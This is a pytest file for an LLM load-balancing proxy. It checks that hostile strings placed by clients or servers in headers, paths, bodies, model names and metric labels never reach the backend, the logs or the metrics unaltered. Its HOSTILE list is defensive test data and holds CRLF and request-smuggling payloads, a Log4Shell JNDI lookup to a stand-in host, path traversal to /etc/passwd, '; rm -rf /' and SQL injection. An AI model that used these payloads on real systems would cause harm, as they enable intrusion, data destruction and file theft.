# SPDX-License-Identifier: Apache-2.0
"""Strings that mean something to a parser further on, wherever a client or a server can put one.

What goes on must be what came or nothing, the log must stay one JSON object a line, the metrics one page of few series.
"""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx
import pytest
from prometheus_client.parser import text_string_to_metric_families

from tests.support.aio import run, until
from tests.support.endpoint import NOT_FOUND, OK, ScriptedEndpoint, answer
from tests.support.process import Process, lbproxy
from tests.support.rig import RawClient, Reply, post

EVIL = "X-Evil: 1"
HOSTILE = [
    *("\r\n" + EVIL, "\n" + EVIL, "\r" + EVIL, "a\r\n\r\nGET /evil HTTP/1.1\r\nHost: evil\r\n\r\n", "\r\n " + EVIL),
    *(
        "\x00",
        "a\x00b",
        "\x0b" + EVIL,
        "\x0c" + EVIL,
        "\x1c" + EVIL,
        "\x85" + EVIL,
        "\x1b[2J\x1b[31mred",
        "\x7f",
        "\x08\x08",
    ),
    *("\u2028" + EVIL, "\u2029" + EVIL, "\u202e txt", "\ufeff", "\U0001f600", "é", "\u010d\u010a" + EVIL, "\ud800"),
    *('"', '\\"', '","level":"error","x":"', "'", "\\", "\\r\\n" + EVIL, "\\u000a", '"}\n{"event":"request"}'),
    *("%0d%0a" + EVIL, "%0D%0A%20", "%00", "%u000a", "${jndi:ldap://evil/x}", "{{7*7}}", "<script>alert(1)</script>"),
    *('m",outcome="completed"} 1\nlbproxy_up 1\n#', 'm"} 1 # {', "../../etc/passwd", "; rm -rf /", "' OR 1=1--"),
    *("\t", " ", "x" * 300, "y" * 1_000_000),
]
assert len(HOSTILE) >= 40

PAGE = b"# TYPE vllm:num_requests_running gauge\nvllm:num_requests_running 0\nvllm:num_requests_waiting 0\n"


def listing(*models: str) -> bytes:
    return answer(json.dumps({"object": "list", "data": [{"id": one, "object": "model"} for one in models]}).encode())


@contextmanager
def served(endpoint: ScriptedEndpoint, folder: Path) -> Iterator[tuple[Process, str, str]]:
    more = "health: {interval: 100ms, down_interval: 100ms}\nscrape: {interval: 100ms, stale_after: 1s}"
    with lbproxy(folder, [endpoint.url], more) as running:
        yield running


async def ask(port: int, data: bytes, *, split: bool) -> Reply | None:
    """One request, in one piece (the fast lane's) or in two; None if the connection just ended."""
    client = RawClient(*await asyncio.open_connection("127.0.0.1", port))
    try:
        head, end, body = data.partition(b"\r\n\r\n")
        client.send(head + end if split else data)
        if split:
            await asyncio.sleep(0.001)
            client.send(body)
        return await client.reply()
    except (asyncio.IncompleteReadError, ConnectionError):
        return None
    finally:
        client.writer.close()


def encoded(text: str) -> bytes:
    """As UTF-8, and what has none as the bytes that it would have."""
    return text.encode("utf-8", "surrogatepass")


def places(text: str) -> Iterator[bytes]:
    """A request with the text in each place that a client fills."""
    raw = encoded(text)
    body = b'{"model":"m","prompt":"x"}'

    def made(line: bytes = b"POST /v1/completions HTTP/1.1", more: bytes = b"", body: bytes = body) -> bytes:
        fields = b"Host: lb\r\nContent-Type: application/json\r\nContent-Length: %d\r\n%s" % (len(body), more)
        return b"%s\r\n%s\r\n%s" % (line, fields, body)

    yield made(more=b"X-A: " + raw + b"\r\n")
    yield made(more=b"X-A" + raw + b": 1\r\n")
    yield made(more=b"x-request-id: " + raw + b"\r\n")
    yield made(more=b"x-session-id: " + raw + b"\r\n")
    yield made(more=b"x-lbproxy-priority: " + raw + b"\r\n")
    yield made(more=b"x-gateway-destination-endpoint: " + raw + b"\r\n")
    yield made(more=b"Authorization: " + raw + b"\r\n")
    yield made(more=b"User-Agent: " + raw + b"\r\n")
    yield made().replace(b"Host: lb", b"Host: lb" + raw)
    yield made().replace(b"application/json", b"application/json; x=" + raw)
    yield made(b"POST /v1/completions?x=" + raw + b" HTTP/1.1")
    yield made(b"POST /v1/x" + raw + b" HTTP/1.1")
    yield made(b"POST" + raw + b" /v1/completions HTTP/1.1")
    yield made(b"POST /v1/completions HTTP/1.1" + raw)
    yield made(body=json.dumps({"model": text}).encode())
    yield made(body=json.dumps({"model": text}, ensure_ascii=False).encode("utf-8", "surrogatepass"))
    yield made(body=json.dumps({"model": "m", text: text}).encode())


OURS = (
    rb"x-request-id: [A-Za-z0-9._:/+=@-]{1,145}",
    rb"x-gateway-destination-endpoint: 127\.0\.0\.1:\d+",
    rb"Host: 127\.0\.0\.1:\d+",
    rb"X-Forwarded-For: (.*, )?127\.0\.0\.1",
    rb"X-Forwarded-(Proto: http|Host: [!-~]*)",
    rb"Via: 1\.[01] lbproxy \([0-9a-f]+\)",
)


def unchanged(head: bytes, sent: bytes) -> None:
    """Each line of a head that the endpoint got is one that the client sent, or one of ours."""
    first, *lines = head.removesuffix(b"\r\n\r\n").split(b"\r\n")
    sent_lines = sent.partition(b"\r\n\r\n")[0].split(b"\r\n")
    assert re.fullmatch(rb"[A-Z]+ /v1/[!-~]+ HTTP/1\.1", first), first
    came = {re.sub(rb":[ \t]*", b":", line.strip(b" \t"), count=1) for line in sent_lines}
    for line in lines:
        assert b"\r" not in line, line
        assert b"\n" not in line, line
        known = re.sub(rb":[ \t]*", b":", line.rstrip(b" \t"), count=1) in came
        assert known or any(re.fullmatch(one, line) for one in OURS) or line.startswith(b"Content-Length: "), line


def all_json(process: Process) -> list[dict[str, object]]:
    """The log so far; its last line may not be whole yet."""
    lines = process.read().split("\n")[:-1]
    assert all(line.isascii() and line.isprintable() for line in lines)
    return [json.loads(line) for line in lines]


def sound_metrics(admin: str, most_bytes: int = 1_000_000) -> None:
    page = httpx.get(f"{admin}/metrics").text
    assert len(page) < most_bytes
    for family in text_string_to_metric_families(page):
        models = set()
        for sample in family.samples:
            assert all(len(value) <= 128 and value.isprintable() for value in sample.labels.values()), sample
            models.add(sample.labels.get("model"))
        assert len(models - {None}) <= 101, family.name


@pytest.mark.parametrize("split", [False, True], ids=["lane", "aiohttp"])
def test_what_clients_inject_goes_nowhere(split: bool, tmp_path: Path) -> None:
    """Every string in every place: the endpoint's head has no line that the client did not send as one."""

    async def main() -> None:
        scripts = {"/health": OK, "/metrics": answer(PAGE, kind="text/plain"), "/v1/models": listing("m")}
        async with ScriptedEndpoint({**scripts, "/v1/completions": OK}) as endpoint:
            with served(endpoint, tmp_path) as (process, url, admin):
                port = int(url.rpartition(":")[2])
                await until(lambda: "127.0.0.1" in process.read() and '"to":"up"' in process.read(), "it is up")
                count = 0
                for text in HOSTILE:
                    for data in places(text):
                        before = len(endpoint.requests)
                        reply = await ask(port, data, split=split)
                        count += 1
                        new = [one for one in endpoint.requests[before:] if one.path not in scripts]
                        assert len(new) <= 1, data[:200]
                        for one in new:
                            unchanged(one.head, data)
                        if reply is not None:
                            assert EVIL.lower().encode() not in reply.head.lower().partition(b"\r\n\r\n")[0]
                        assert reply is None or 200 <= reply.status < 500, (data[:200], reply.head)
                assert count == len(HOSTILE) * 17
                await asyncio.to_thread(sound_metrics, admin)
                await until(lambda: process.read().count('"event":"request"') >= count, "all are logged")
                lines = all_json(process)
                assert {line["event"] for line in lines} <= {
                    "start",
                    "request",
                    "transition",
                    "scrape",
                    "models",
                    "log",
                }
                assert not any("traceback" in line for line in lines)
                process.stop()

    run(main(), timeout_s=110)


def test_what_servers_inject_goes_nowhere(tmp_path: Path) -> None:
    """Names of models, metrics, and the heads of their answers."""
    names = [text for text in HOSTILE if len(text) < 1000 and text != "\ud800"]
    labels = "".join(
        f"vllm:lora_requests_info{{running_lora_adapters={json.dumps(text, ensure_ascii=False)}}} 1\n" for text in names
    )
    heads = [f"X-A: {text}\r\n" for text in names] + [f"X{text}: a\r\n" for text in names]

    async def main() -> None:
        scripts = {
            "/health": OK,
            "/metrics": answer(PAGE + labels.encode(), kind="text/plain"),
            "/v1/models": listing("m", *names),
        }
        async with ScriptedEndpoint({**scripts, "/v1/completions": OK}) as endpoint:
            with served(endpoint, tmp_path) as (process, url, admin):
                port = int(url.rpartition(":")[2])
                await until(lambda: '"to":"up"' in process.read(), "it is up")
                for more in heads:
                    raw = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n" + encoded(more) + b"\r\n{}"
                    endpoint.scripts["/v1/completions"] = raw
                    reply = await ask(port, post(b'{"model":"m"}', "/v1/completions"), split=False)
                    assert reply is not None
                    assert reply.status in {200, 502}
                    lines = reply.head.removesuffix(b"\r\n\r\n").split(b"\r\n")
                    sent = raw.partition(b"\r\n\r\n")[0].split(b"\r\n")
                    ours = (
                        b"x-request-id",
                        b"x-lbproxy-",
                        b"content-",
                        b"retry-after",
                        b"x-should-retry",
                        b"via: 1.1 lbproxy",
                        b"HTTP/1.1 ",
                    )
                    for line in lines:
                        assert b"\n" not in line
                        assert line in sent or line.lower().startswith(tuple(map(bytes.lower, ours))), line
                shown = await asyncio.to_thread(lambda: httpx.get(f"{url}/v1/models").json())
                assert {one["id"] for one in shown["data"]} <= {"m", *names}
                assert all(one["id"].isprintable() for one in shown["data"])
                for name in names:
                    await ask(port, post(json.dumps({"model": name}).encode(), "/v1/completions"), split=False)
                await asyncio.to_thread(sound_metrics, admin)
                assert not any("traceback" in line for line in all_json(process))
                process.stop()

    run(main(), timeout_s=110)


def test_twenty_thousand_model_names_make_no_page(tmp_path: Path) -> None:
    """A tenth of them here; the rest by hand (docs/security.md)."""

    async def main() -> None:
        scripts = {"/health": OK, "/metrics": NOT_FOUND, "/v1/models": listing("m", *(f"a-{n}" for n in range(200)))}
        async with ScriptedEndpoint({**scripts, "/v1/completions": OK}) as endpoint:
            with served(endpoint, tmp_path) as (process, url, admin):
                await until(lambda: '"to":"up"' in process.read(), "it is up")
                port = int(url.rpartition(":")[2])
                client = RawClient(*await asyncio.open_connection("127.0.0.1", port))
                for n in range(2000):
                    client.send(post(json.dumps({"model": f"a-{n}" + "x" * (n % 50)}).encode(), "/v1/completions"))
                    assert (await client.reply()).status in {200, 404}
                client.writer.close()
                await asyncio.to_thread(sound_metrics, admin)
                process.stop()

    run(main(), timeout_s=110)
